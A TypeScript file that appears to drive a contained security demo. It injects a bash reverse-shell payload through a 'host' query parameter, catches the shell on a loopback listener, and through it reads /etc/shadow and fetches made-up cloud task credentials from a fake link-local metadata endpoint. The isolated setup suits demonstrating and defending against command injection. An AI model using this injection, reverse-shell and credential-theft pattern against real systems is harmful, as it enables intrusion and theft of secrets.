// SPDX-License-Identifier: Apache-2.0
//
// The demo's attacker, and the credentials service it is after. Everything is on loopback of a network
// namespace of its own: the link-local address that hands out a task's credentials is there an address of
// `lo`, and the credentials are made up.
import { createServer as createHttpServer, get } from "node:http";
import { type AddressInfo, connect, createServer, type Server, type Socket } from "node:net";

export const CREDENTIALS_HOST = "169.254.170.2";
const CREDENTIALS_PATH = "/v2/credentials/demo";

export interface Listener {
  port: number;
  shell: Promise<Socket>;
  close(): void;
}

/** Waits for the victim's shell to call home. */
export async function listenForShell(): Promise<Listener> {
  const server = createServer();
  const shell = new Promise<Socket>((resolve) => server.once("connection", resolve));
  await listening(server, 0, "127.0.0.1");
  return { port: (server.address() as AddressInfo).port, shell, close: () => server.close() };
}

export async function serveCredentials(): Promise<() => void> {
  const server = createHttpServer((_, response) =>
    response.end('{"AccessKeyId":"DEMO","SecretAccessKey":"made-up"}\n'),
  );
  await listening(server, 80, CREDENTIALS_HOST);
  return () => {
    server.close();
    server.closeAllConnections();
  };
}

/** The request that makes the shell: the part after the semicolon is the attacker's. */
export function inject(victimPort: number, listenerPort: number): Promise<void> {
  const command = `localhost; bash -c 'bash -i >& /dev/tcp/127.0.0.1/${listenerPort} 0>&1'`;
  return request(`http://127.0.0.1:${victimPort}/?host=${encodeURIComponent(command)}`).then(() => {});
}

/** Types one command into the shell and gives what it printed. */
export function type(shell: Socket, command: string): Promise<string> {
  const end = `end-${Math.random().toString(36).slice(2)}`;
  return new Promise((resolve, reject) => {
    let printed = "";
    const timer = setTimeout(() => reject(new Error(`the shell does not answer: ${command}`)), 60_000);
    const onData = (chunk: Buffer): void => {
      printed += chunk.toString("utf8");
      // The interactive shell shows what is typed as well: the mark alone on its line is the answer's end.
      const at = printed.search(new RegExp(`^${end}$`, "m"));
      if (at < 0) return;
      clearTimeout(timer);
      shell.off("data", onData);
      resolve(printed.slice(0, at));
    };
    shell.on("data", onData);
    shell.write(`${command}; echo; echo ${end}\n`);
  });
}

export const THEFTS = [
  { say: "reads the password file", command: "cat /etc/shadow | wc -l" },
  { say: "asks for the task's credentials", command: `curl -s -m 5 http://${CREDENTIALS_HOST}${CREDENTIALS_PATH}` },
];

/** Whether somebody takes connections there. Asks nothing: each request makes the victim start a shell. */
export function isListening(port: number): Promise<boolean> {
  return new Promise((done) => {
    const socket = connect(port, "127.0.0.1", () => {
      socket.destroy();
      done(true);
    });
    socket.on("error", () => done(false));
  });
}

export function request(url: string): Promise<number> {
  return new Promise((resolve, reject) => {
    get(url, { timeout: 30_000 }, (response) => {
      response.resume();
      response.on("end", () => resolve(response.statusCode ?? 0));
    }).on("error", reject);
  });
}

function listening(server: Server, port: number, host: string): Promise<void> {
  return new Promise((resolve, reject) => {
    server.once("error", reject);
    server.listen(port, host, resolve);
  });
}
